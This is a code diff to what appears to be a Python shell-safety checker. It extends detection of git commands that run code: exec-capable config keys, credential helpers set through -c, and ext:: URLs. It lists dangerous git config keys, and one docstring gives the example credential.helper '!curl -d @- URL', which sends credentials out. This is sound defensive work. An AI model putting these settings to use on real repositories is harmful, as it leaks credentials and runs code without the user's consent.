@@ -15,10 +15,11 @@ from collections.abc import Callable
 
 from ._embedded import GIT_GLOBAL_ARG, git_exec_key, is_hooks_path
 from ._embedded import git_sub_index as _subcommand
+from ._gitkeys import ext_argv, is_credential_helper
 from ._resolve import Invocation
 from ._words import Field
 
-__all__ = ["check_git", "config_setting", "git_commands"]
+__all__ = ["check_git", "config_codes", "config_setting", "git_commands"]
 
 Add = Callable[[str, tuple[int, int], str, "str | None"], None]
 
@@ -71,12 +72,14 @@ def check_git(add: Add, inv: Invocation) -> None:
     elif sub in ("checkout", "restore", "switch") and _discards(sub, texts):
         add("shell.git-destructive", span, f"git {sub} discards uncommitted changes in the "
             "working tree", None)
-    elif sub == "config" and any(
+    elif sub == "config" and config_setting(texts) is not None and any(
             (t.lower().startswith(("core.pager", "core.sshcommand", "core.fsmonitor",
                                    "core.editor", "core.askpass", "credential.helper",
                                    "diff.external", "gpg.program"))
              and not (t.lower().startswith("credential.helper") and i + 1 < len(texts) and
-                      texts[i + 1].split(" ", 1)[0] in _GIT_CREDENTIAL_HELPERS))
+                      texts[i + 1].split(" ", 1)[0] in _GIT_CREDENTIAL_HELPERS)
+             and not (t.lower() == "core.fsmonitor" and i + 1 < len(texts) and
+                      git_exec_key(t, texts[i + 1]) is None))
             or (t.lower().startswith("alias.") and i + 1 < len(texts) and
                 texts[i + 1].startswith("!"))
             for i, t in enumerate(texts)):
@@ -167,7 +170,51 @@ _ARG_LETTERS = {"rebase": "sXC", "difftool": "t", "clone": "obcj"}
 
 def git_commands(inv: Invocation) -> tuple[list[tuple[str, Field]], list[list[Field]]]:
     """Command strings (with the option that holds each) and argument vectors that a git
-    subcommand runs."""
+    subcommand runs (``ext::CMD ARGS`` URLs are argument vectors too)."""
+    codes, argvs = _sub_commands(inv)
+    for f in inv.args:
+        if f.text.startswith("ext::"):
+            argv = ext_argv(f)
+            if argv:
+                argvs = [*argvs, argv]
+    return codes, argvs
+
+
+def config_codes(inv: Invocation) -> list[tuple[Field, bool]]:
+    """The code that ``git config [opts] KEY VALUE`` sets (any exec key), and credential
+    helpers set by ``git -c``/``git clone -c`` (other ``-c`` values are ``_embedded``'s),
+    each with whether it is a credential helper (it runs with the credentials on stdin:
+    ``credential.helper '!curl -d @- URL'`` sends them)."""
+    args = inv.args
+    out: list[tuple[Field, bool]] = []
+    sub = _subcommand(args)
+    for k, f in enumerate(args):
+        t = f.text
+        setting: Field | None = None
+        if t in ("-c", "--config") and k + 1 < len(args) and (k < sub or t == "--config" or
+                                                            args[sub].text == "clone"):
+            setting = args[k + 1]
+        elif t.startswith("--config="):
+            setting = Field(t[9:], f.span, f.taint)
+        elif t.startswith("-c") and len(t) > 2 and k < sub:
+            setting = Field(t[2:], f.span, f.taint)
+        if setting is not None:
+            key, _, value = setting.text.partition("=")
+            code = git_exec_key(key, value) if is_credential_helper(key) else None
+            if code is not None:
+                out.append((Field(code, setting.span, setting.taint), True))
+    if sub < len(args) and args[sub].text == "config":
+        written = config_setting([f.text for f in args[sub + 1:]])
+        code = git_exec_key(*written) if written is not None else None
+        if code is not None and written is not None:
+            field = next((f for f in reversed(args) if f.text == written[1]), None)
+            if field is not None:
+                out.append((Field(code, field.span, field.taint),
+                            is_credential_helper(written[0])))
+    return out
+
+
+def _sub_commands(inv: Invocation) -> tuple[list[tuple[str, Field]], list[list[Field]]]:
     args = inv.args
     i = _subcommand(args)
     if i >= len(args):
@@ -209,7 +256,7 @@ def git_commands(inv: Invocation) -> tuple[list[tuple[str, Field]], list[list[Fi
                 if f.text.startswith("--config=") else None)
             if setting is not None:
                 key, _, value = setting.text.partition("=")
-                code = git_exec_key(key, value)
+                code = None if is_credential_helper(key) else git_exec_key(key, value)
                 if code is not None:
                     codes.append(("git clone -c", Field(code, setting.span, setting.taint)))
     spec = _CODE_OPTS.get(sub)
